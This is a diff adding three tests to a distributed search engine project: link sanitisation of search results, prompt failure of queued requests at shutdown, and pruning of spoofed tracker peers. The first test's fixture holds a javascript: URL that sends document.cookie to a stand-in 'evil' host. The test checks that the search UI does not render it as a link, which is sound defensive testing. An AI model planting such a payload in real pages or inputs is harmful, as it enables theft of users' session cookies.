@@ -405,3 +405,71 @@ def test_http_early_errors_close_keepalive_connection(http):
 
     status, _ = get(base + "/api/stats")
     assert status == 200
+
+
+def test_result_links_refuse_javascript_urls():
+    """Stored URLs are attacker-controlled (hostile peers replicate
+    pages): only http(s) URLs render as links — a javascript: URL
+    would execute in the search UI's origin on click (round-3 review;
+    deliberate hardening departure from web.rs:325)."""
+    from dawnsearch_tpu.index.provider import FoundPage, SearchResult
+    from dawnsearch_tpu.serving import web
+
+    evil = FoundPage(page_id=1, distance=0.1,
+                     url="javascript:fetch('//evil/'+document.cookie)",
+                     title="click me", text="x", instance_id="i")
+    good = FoundPage(page_id=2, distance=0.2, url="https://ok.example/a",
+                     title="fine", text="y", instance_id="i")
+    html_out = web.format_results(
+        SearchResult(pages=[evil, good], pages_searched=2), 0.01)
+    assert 'href="javascript:' not in html_out
+    assert 'href="https://ok.example/a"' in html_out
+    assert "click me" in html_out  # still shown, just not linked
+
+
+def test_batcher_shutdown_fails_queued_waiters_promptly():
+    """Requests queued behind the shutdown sentinel get a prompt
+    RuntimeError, not a hang until their future timeout (round-3
+    review)."""
+    import time as _time
+
+    from dawnsearch_tpu.serving.batcher import CoalescingBatcher
+
+    release = threading.Event()
+
+    def slow(payloads):
+        release.wait(10.0)
+        return payloads
+
+    b = CoalescingBatcher(slow, max_batch=1, max_wait_ms=1.0, name="t")
+    first = b.submit("a")        # occupies the worker in slow()
+    _time.sleep(0.2)
+    queued = b.submit("b")       # sits in the queue
+    stopper = threading.Thread(target=b.stop)
+    stopper.start()
+    release.set()
+    stopper.join(timeout=10)
+    t0 = _time.monotonic()
+    with pytest.raises(RuntimeError, match="shut down"):
+        queued.result(timeout=5.0)
+    assert _time.monotonic() - t0 < 2.0  # failed promptly, no hang
+    assert first.result(timeout=5.0) == "a"
+
+
+def test_tracker_prunes_spoofed_peers():
+    """Spoofed announces with random instance ids must not grow the
+    tracker's peer map without bound (round-3 review; the reference
+    only filters at reply time, dawntrack.rs:95)."""
+    from dawnsearch_tpu.net.tracker import Tracker
+
+    tr = Tracker("127.0.0.1:0", fresh_s=0.1)
+    now = int(__import__("time").time())
+    # simulate an old flood by backdating entries beyond 2*fresh_s
+    from dawnsearch_tpu.net.packets import Announce, PeerInfo, encode
+    for i in range(50):
+        tr.peers[f"spoof{i}"] = PeerInfo(f"spoof{i}", "10.0.0.1:1", False,
+                                         0, last_seen=now - 10)
+    tr._handle(encode(Announce("real", True, 1), tr.wire),
+               ("127.0.0.1", 4242))
+    assert len(tr.peers) == 1 and "real" in tr.peers
+    tr._sock.close()
